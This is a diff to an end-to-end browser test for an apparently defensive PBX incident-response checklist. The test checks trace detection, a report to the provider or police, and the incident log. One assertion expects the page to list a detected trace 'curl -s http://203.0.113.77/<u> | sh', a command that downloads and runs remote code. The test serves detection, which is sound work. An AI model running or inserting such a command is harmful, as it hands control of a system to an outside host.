@@ -109,11 +109,56 @@ it('from the button to the end: nothing is to be remembered', { timeout: 300_000
   await expect.poll(() => step('change').textContent()).not.toContain('Said by');
 
   await unfold('look');
+  await expect.poll(() => step('look').textContent()).toContain('13 things are new since then, or not known here.');
+  await expect.poll(() => step('look').textContent()).toContain('203 (Peter Vogel) forwards to 00252612000111');
+  await expect.poll(() => step('look').textContent()).toContain('curl -s http://203.0.113.77/<u> | sh');
+  await shot('traces');
+  await expect.poll(() => objections()).toEqual([]);
+  await press(step('look'), /^This is ours AMI user/);
+  await expect.poll(() => step('look').textContent()).toContain('12 things are new');
+  await expect.poll(() => step('look').textContent()).toContain('Known as yours, or explained: 1');
   await press(step('look'), 'Look at the calls');
   await expect.poll(() => step('look').textContent()).toContain('2 accounts called otherwise than before');
   await press(step('look'), 'I have looked at all of that');
   await press(step('look'), 'I have looked at the calls');
   await expect.poll(async () => (await states())[3]).toBe('Done');
+
+  // What the PBX knows is filled in: calls, since when, the hash of the evidence.
+  await unfold('tell');
+  const letter = step('tell').locator('textarea');
+  await expect
+    .poll(() => letter.inputValue())
+    .toMatch(/To City line[^]*extension 202: 47 calls, to Somalia[^]*SHA-256/);
+  await shot('letter');
+  await expect.poll(() => objections()).toEqual([]);
+  await step('tell').locator('select').selectOption({ label: 'Report to the police' });
+  await expect.poll(() => letter.inputValue()).toMatch(/Zentrale Ansprechstelle Cybercrime[^]*MikoPBX 2024\.1\.114/);
+  const report = page.waitForEvent('download');
+  await press(step('tell'), 'Save as a file');
+  expect((await report).suggestedFilename()).toMatch(/^report-Trade-house-.*\.txt$/);
+  await press(step('tell'), 'The provider has been told');
+  await press(step('tell'), 'The authorities have been told');
+  await expect.poll(async () => (await states())[4]).toBe('Done');
+
+  await page.locator('#mscl-room-done > summary').click();
+  const log = page.locator('#mscl-room-done');
+  await log.getByLabel('Done by hand or by phone: what, and with whom').fill('Called Ms Maier of City line');
+  await press(log, 'Write it down');
+  await expect.poll(() => log.locator('tbody').textContent()).toContain('Called Ms Maier of City line');
+  await expect.poll(() => log.locator('tbody').textContent()).toContain('Evidence is kept elsewhere');
+  await expect.poll(() => log.locator('textarea').first().inputValue()).toMatch(/admin: Told the authorities/);
+  await log.scrollIntoViewIfNeeded();
+  await shot('log');
+  await expect.poll(() => objections()).toEqual([]);
+
+  // The end: what is open is said, and keeps nobody.
+  await unfold('end');
+  await expect.poll(() => step('end').textContent()).toContain('Still open: Change everything');
+  await press(step('end'), 'We are through');
+  await expect.poll(async () => (await states())[5]).toBe('Done');
+  await page.getByRole('link', { name: 'Back to the checklist' }).click();
+  await page.locator('#mscl-score').waitFor();
+  await expect.poll(() => page.getByText('A break-in is being dealt with on this PBX.').count()).toBe(0);
 });
 
 for (const [language, width] of [
@@ -130,6 +175,10 @@ for (const [language, width] of [
     }
     await page.locator('.mscl-calls input').first().waitFor();
     await page.locator('.mscl-evidence input').first().waitFor();
+    await page.locator('.mscl-traces-list').first().waitFor();
+    await page.locator('#mscl-room-tell textarea').waitFor();
+    await page.locator('#mscl-room-done > summary').click();
+    await page.locator('.mscl-room-note textarea').waitFor();
     await expect.poll(() => objections()).toEqual([]);
     await expect.poll(overflow).toBe(0);
     await shot(`${language}-${String(width)}`);
